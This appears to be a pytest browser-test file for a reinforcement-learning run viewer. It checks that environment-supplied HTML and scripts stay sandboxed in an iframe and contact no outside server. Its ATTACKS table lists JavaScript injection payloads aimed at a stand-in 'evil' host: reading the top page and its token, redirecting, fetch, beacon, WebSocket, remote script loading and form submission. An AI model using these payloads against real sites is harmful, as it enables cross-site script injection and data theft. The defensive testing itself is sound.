"""What an environment draws itself reaches neither the page nor the network."""

from __future__ import annotations

import json
import threading
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass, field, replace
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from rlkit.store import table
from rlkit.store.history import table_path
from rlkit.types import Group
from rlkit.view.html_export import export_html
from rlkit.view.library import Library
from tests.builders import episode
from tests.trackers.folders import write_run
from tests.view.browser.conftest import serve
from tests.view.browser.visit import Visit

EVIL = "http://evil"
"""Stands for the address of a server that must not be asked."""

HTML = (
    f"<img src={EVIL}/image.png><iframe src={EVIL}/frame></iframe><link rel=stylesheet href={EVIL}/style.css>"
    f"<a href={EVIL}/ target=_top>a link</a><form action={EVIL}/ target=_top><button>send</button></form>"
    "<p>drawn</p>"
)
ATTACKS = {
    "reads the page": "top.document.title",
    "writes to the page": "top.pwned = 1; parent.pwned = 1",
    "reads the token": "document.body.append(top.location.href)",
    "stores": "localStorage.x = 1",
    "asks": "alert(1); confirm(1); prompt(1)",
    "opens a window": f"open('{EVIL}/')",
    "leads the page away": f"top.location = '{EVIL}/'",
    "leads itself away": f"location = '{EVIL}/?' + episode.task",
    "leads itself to data": f"location = 'data:text/html,<img src={EVIL}/image>'",
    "fetches": f"fetch('{EVIL}/').catch(() => {{}}); fetch('/api/runs').catch(() => {{}})",
    "sends a beacon": f"navigator.sendBeacon('{EVIL}/', 'x')",
    "loads an image": f"new Image().src = '{EVIL}/image.png'",
    "loads a script": f"document.body.append(Object.assign(document.createElement('script'), {{src: '{EVIL}/x.js'}}))",
    "opens a socket": f"new WebSocket('{EVIL}/'.replace('http', 'ws'))",
    "submits a form": f"document.body.innerHTML = '<form action={EVIL}/></form>'; document.forms[0].submit()",
    "claims a height": "parent.postMessage({height: 1e9}, '*'); parent.postMessage({height: 'x'}, '*')",
}


@dataclass
class Outside:
    """A server that must not be asked."""

    address: str
    requests: list[str] = field(default_factory=list[str])


@pytest.fixture
def outside() -> Iterator[Outside]:
    """A server on another port."""

    class Handler(BaseHTTPRequestHandler):
        def handle_one_request(self) -> None:
            place.requests.append(self.rfile.readline().decode(errors="replace"))
            self.close_connection = True

        def log_message(self, format: str, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    place = Outside(f"http://127.0.0.1:{server.server_port}")
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield place
    server.shutdown()
    thread.join()
    server.server_close()


def write_view(folder: Path, view: Mapping[str, str]) -> Path:
    """Write a run with one episode that has a view."""
    run = write_run(folder / "runs" / "frame", steps=1)
    played = replace(episode(1.0), info={"view": dict(view)})
    table.write(table_path(run, 1), [table.RecordedGroup(Group("e", "t", 0, (played,)), True, [played])])
    return run.parent


def check_isolation(visit: Visit, outside: Outside) -> None:
    """Assert that a frame changed, asked and loaded nothing."""
    visit.open("#/run/frame/step/1/episode/0/0/0?view=env")
    visit.page.wait_for_selector("iframe.renderer")
    before = visit.page.url
    visit.page.wait_for_timeout(700)  # for what it may do later
    assert visit.page.url == before
    assert visit.page.evaluate("() => window.pwned ?? null") is None
    assert visit.page.evaluate("() => document.querySelector('iframe.renderer').getBoundingClientRect().height") <= 4000
    assert visit.text("h1").startswith("t")
    happened = [problem for problem in visit.problems if problem.startswith(("dialog", "popup"))]
    assert happened == [], json.dumps(visit.problems)
    assert outside.requests == []


@pytest.mark.rotated
@pytest.mark.parametrize("attack", ATTACKS)
@pytest.mark.parametrize("kind", ["served", "exported"])
def test_a_script_of_an_environment_cannot_leave_its_frame(
    visit_link: Callable[..., Visit], outside: Outside, tmp_path: Path, attack: str, kind: str
) -> None:
    script = f"document.body.append('drawn'); {ATTACKS[attack]}".replace(EVIL, outside.address)
    with show(write_view(tmp_path, {"script": script}), kind) as link:
        check_isolation(visit_link(link), outside)


@pytest.mark.parametrize("kind", ["served", "exported"])
def test_html_of_an_environment_loads_nothing(
    visit_link: Callable[..., Visit], outside: Outside, tmp_path: Path, kind: str
) -> None:
    with show(write_view(tmp_path, {"html": HTML.replace(EVIL, outside.address)}), kind) as link:
        visit = visit_link(link)
        check_isolation(visit, outside)
        frame = visit.page.frames[1]
        assert "drawn" in frame.inner_text("body")
        before = visit.page.url
        frame.get_by_text("a link").click()
        frame.get_by_role("button", name="send").click()
        visit.page.wait_for_timeout(300)
        assert outside.requests == []
        assert visit.page.url == before


@contextmanager
def show(runs: Path, kind: str) -> Iterator[str]:
    """Serve runs, or export them, and yield the link."""
    if kind == "exported":
        yield export_html(Library([runs]), runs.parent / "all.html").as_uri()
    else:
        with serve(runs) as link:
            yield link
